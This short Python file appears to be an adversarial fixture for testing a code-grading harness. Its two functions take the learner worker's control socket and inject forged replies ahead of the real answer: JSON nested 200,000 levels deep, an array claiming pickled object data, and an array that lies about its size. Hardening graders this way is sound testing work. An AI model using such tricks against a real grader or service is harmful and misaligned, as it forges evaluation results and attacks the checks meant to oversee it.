# attack: answers the grader itself, on the learner process's own control socket, ahead of the
# real answer: a reply nested far beyond any parser's recursion limit (make_counter), and
# replies whose arrays claim pickled object data or lie about their size (fibonacci)
import base64
import json

import grader.learner.worker as worker
from grader.learner import wire

SOCKET = worker._state["sock"]


def _send_raw(payload: bytes) -> None:
    SOCKET.sendall(wire.HEADER.pack(len(payload)) + payload)


def make_counter():
    depth = 200_000
    _send_raw(b'{"ok": true, "value": ' + b"[" * depth + b"]" * depth + b"}")
    return None


def fibonacci(n):
    pickled = base64.b64encode(b"\x80\x04K\x01.").decode()
    liar = {"dtype": "int64", "shape": [10**6], "b64": base64.b64encode(b"\0" * 8).decode()}
    for array in ({"dtype": "object", "shape": [1], "b64": pickled}, liar):
        _send_raw(json.dumps({"ok": True, "value": {"__array__": array, "kind": "EagerTensor"}})
                  .encode())
    return None
